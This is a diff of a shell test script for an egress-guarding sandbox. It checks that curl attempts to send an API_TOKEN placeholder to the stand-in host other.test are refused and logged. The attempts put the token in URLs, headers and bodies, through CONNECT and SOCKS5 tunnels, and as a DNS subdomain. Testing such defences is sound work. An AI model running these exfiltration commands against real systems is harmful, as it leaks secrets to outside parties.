@@ -119,10 +119,10 @@ check "plain HTTP with the placeholder in a header: 403 exfiltration" \
 
 run sbx "${pol[@]}" -- bash -c "$C -i \"http://other.test/exfil-url?t=\$API_TOKEN\""
 check "plain HTTP with the placeholder in the URL: 403" grep -q '^HTTP/1.1 403' <<<"$OUT"
-run sbx "${pol[@]}" -- bash -c "$C -p -H \"X-Leak: \$API_TOKEN\" http://other.test/exfil-tunnel"
-check "through a CONNECT tunnel (first bytes scanned): refused (status $STATUS)" test "$STATUS" -ne 0
-run sbx "${pol[@]}" -- bash -c "$C --socks5-hostname 127.0.0.1:1080 -H \"X-Leak: \$API_TOKEN\" http://other.test/exfil-socks"
-check "through a SOCKS5 tunnel: refused (status $STATUS)" test "$STATUS" -ne 0
+# Through a tunnel (its first bytes scanned) the refusal is the tunnel closed before any answer.
+expect_refused_sh 'curl: \(52\) Empty reply from server' "$VALUE" "$C -p -H \"X-Leak: \$API_TOKEN\" http://other.test/exfil-tunnel" "${pol[@]}"
+expect_refused_sh 'curl: \(52\) Empty reply from server' "$VALUE" \
+    "$C --socks5-hostname 127.0.0.1:1080 -H \"X-Leak: \$API_TOKEN\" http://other.test/exfil-socks" "${pol[@]}"
 run sbx "${pol[@]}" -- bash -c "$C -i --data-binary \"token=\$API_TOKEN\" http://other.test/exfil-body"
 check "plain HTTP with the placeholder in the body: 403 exfiltration" \
     out_has_both '^HTTP/1.1 403' '^X-ExGuardian-Refused: exfiltration'
@@ -134,10 +134,10 @@ check "a placeholder 2 MB into a plain-HTTP body: no answer from the server (sta
     out_lacks '^HTTP/1.1 200 OK'
 check "audit: both body placeholders logged (with the head, and 2 MB in)" \
     bash -c "test \$(grep '\"where\":\"body\"' '$audit' | grep -c API_TOKEN) -ge 2"
-run sbx "${pol[@]}" -- bash -c "$C -p \"http://\$API_TOKEN.other.test/\""
-check "placeholder as the CONNECT target: refused (status $STATUS)" test "$STATUS" -ne 0
-run sbx "${pol[@]}" -- bash -c "$C --socks5-hostname 127.0.0.1:1080 \"http://\$API_TOKEN.allowed.test/\""
-check "placeholder as the SOCKS target: refused (status $STATUS)" test "$STATUS" -ne 0
+expect_refused_sh 'curl: \(56\) CONNECT tunnel failed, response 403' "$VALUE" "$C -p \"http://\$API_TOKEN.other.test/\"" "${pol[@]}"
+# (SOCKS5 reply 2: connection not allowed by ruleset)
+expect_refused_sh "curl: \\(97\\) Can't complete SOCKS5 connection to exg_ph_API_TOKEN_.*\\(2\\)" "$VALUE" \
+    "$C --socks5-hostname 127.0.0.1:1080 \"http://\$API_TOKEN.allowed.test/\"" "${pol[@]}"
 run sbx "${pol[@]}" -- python3 -c '
 import os, urllib.request, urllib.error
 try:
